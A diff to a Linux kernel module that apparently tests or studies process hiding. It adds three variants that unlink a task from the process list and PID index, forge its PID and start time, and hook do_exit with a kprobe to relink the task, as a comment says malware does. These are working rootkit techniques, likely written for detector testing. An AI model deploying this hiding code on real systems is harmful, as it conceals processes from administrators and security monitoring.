@@ -8,6 +8,7 @@
  */
 #include <linux/idr.h>
 #include <linux/kernel.h>
+#include <linux/kprobes.h>
 #include <linux/pid.h>
 #include <linux/pid_namespace.h>
 #include <linux/rculist.h>
@@ -193,6 +194,56 @@ struct attack hide_list = {
 	.present = list_present,
 };
 
+/*
+ * hide-forged: as hide-list, and the task no longer looks like one: its PID is
+ * 0, and its start time is another.
+ */
+static struct hidden forged;
+static pid_t forged_pid;
+
+static void forged_how(struct hidden *hidden)
+{
+	list_how(hidden);
+	forged_pid = hidden->task->pid;
+	hidden->task->pid = 0;
+	hidden->task->start_time++;
+}
+
+static int forged_begin(struct attack *attack, char *argument)
+{
+	int error = find(&forged, argument, true);
+
+	return error ? error : hide(attack, &forged, forged_how, list_after);
+}
+
+static bool forged_present(struct attack *attack)
+{
+	bool present;
+
+	read_lock(tasks_lock);
+	present = alive(forged.task) &&
+		  !is_in(&forged.task->tasks, &init_task.tasks);
+	read_unlock(tasks_lock);
+	return present;
+}
+
+static void forged_undo(struct attack *attack)
+{
+	write_lock_irq(tasks_lock);
+	forged.task->pid = forged_pid;
+	if (alive(forged.task))
+		relink_task(forged.task);
+	write_unlock_irq(tasks_lock);
+	forget(&forged);
+}
+
+struct attack hide_forged = {
+	.name = "hide-forged",
+	.begin = forged_begin,
+	.undo = forged_undo,
+	.present = forged_present,
+};
+
 /* hide-list-pid: the process list, the PID's slot in the index, and the PID's lists of threads and processes. */
 static struct hidden from_pid;
 
@@ -291,6 +342,139 @@ struct attack hide_list_pid = {
 	.begin = pid_begin,
 	.undo = pid_undo,
 	.present = pid_present,
+};
+
+/*
+ * hide-again: as hide-list-pid, and a probe puts the task back when it exits,
+ * as malware does so that Linux does not stumble over it. It does not look
+ * whether somebody else did so before.
+ */
+static struct hidden until_exit;
+
+static int before_exit(struct kprobe *probe, struct pt_regs *regs)
+{
+	struct task_struct *task = until_exit.task;
+	struct pid *pid = until_exit.pid;
+	unsigned long flags;
+
+	if (current != task)
+		return 0;
+	write_lock_irqsave(tasks_lock, flags);
+	hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID],
+			   &pid->tasks[PIDTYPE_PID]);
+	hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID],
+			   &pid->tasks[PIDTYPE_TGID]);
+	set_slot(pid, NULL, pid);
+	list_add_tail_rcu(&task->tasks, &init_task.tasks);
+	write_unlock_irqrestore(tasks_lock, flags);
+	return 0;
+}
+
+static struct kprobe exit_probe;
+
+static int again_begin(struct attack *attack, char *argument)
+{
+	int error = find(&until_exit, argument, true);
+
+	if (error)
+		return error;
+	exit_probe = (struct kprobe){
+		.symbol_name = "do_exit",
+		.pre_handler = before_exit,
+	};
+	error = register_kprobe(&exit_probe);
+	if (error) {
+		forget(&until_exit);
+		return error;
+	}
+	error = hide(attack, &until_exit, pid_how, pid_after);
+	if (error)
+		unregister_kprobe(&exit_probe);
+	return error;
+}
+
+static bool again_present(struct attack *attack)
+{
+	bool present;
+
+	rcu_read_lock();
+	read_lock(tasks_lock);
+	present = alive(until_exit.task) && pid_missing(&until_exit);
+	read_unlock(tasks_lock);
+	rcu_read_unlock();
+	return present;
+}
+
+static void again_undo(struct attack *attack)
+{
+	unregister_kprobe(&exit_probe);
+	write_lock_irq(tasks_lock);
+	if (alive(until_exit.task)) {
+		relink_pid(&until_exit, PIDTYPE_PID);
+		relink_pid(&until_exit, PIDTYPE_TGID);
+		set_slot(until_exit.pid, NULL, until_exit.pid);
+		relink_task(until_exit.task);
+	}
+	write_unlock_irq(tasks_lock);
+	forget(&until_exit);
+}
+
+struct attack hide_again = {
+	.name = "hide-again",
+	.begin = again_begin,
+	.undo = again_undo,
+	.present = again_present,
+};
+
+/*
+ * hide-twice: as hide-list-pid, and its undo links the task to its PID without
+ * a look whether somebody else did so before.
+ */
+static struct hidden for_now;
+
+static int twice_begin(struct attack *attack, char *argument)
+{
+	int error = find(&for_now, argument, true);
+
+	return error ? error : hide(attack, &for_now, pid_how, pid_after);
+}
+
+static bool twice_present(struct attack *attack)
+{
+	bool present;
+
+	rcu_read_lock();
+	read_lock(tasks_lock);
+	present = alive(for_now.task) && pid_missing(&for_now);
+	read_unlock(tasks_lock);
+	rcu_read_unlock();
+	return present;
+}
+
+static void twice_undo(struct attack *attack)
+{
+	struct task_struct *task = for_now.task;
+	struct pid *pid = for_now.pid;
+
+	write_lock_irq(tasks_lock);
+	if (alive(task)) {
+		hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID],
+				   &pid->tasks[PIDTYPE_PID]);
+		hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID],
+				   &pid->tasks[PIDTYPE_TGID]);
+		set_slot(pid, NULL, pid);
+		/* Many kernels refuse to add to a list twice. */
+		relink_task(task);
+	}
+	write_unlock_irq(tasks_lock);
+	forget(&for_now);
+}
+
+struct attack hide_twice = {
+	.name = "hide-twice",
+	.begin = twice_begin,
+	.undo = twice_undo,
+	.present = twice_present,
 };
 
 /* hide-thread: the thread lists of its process. */
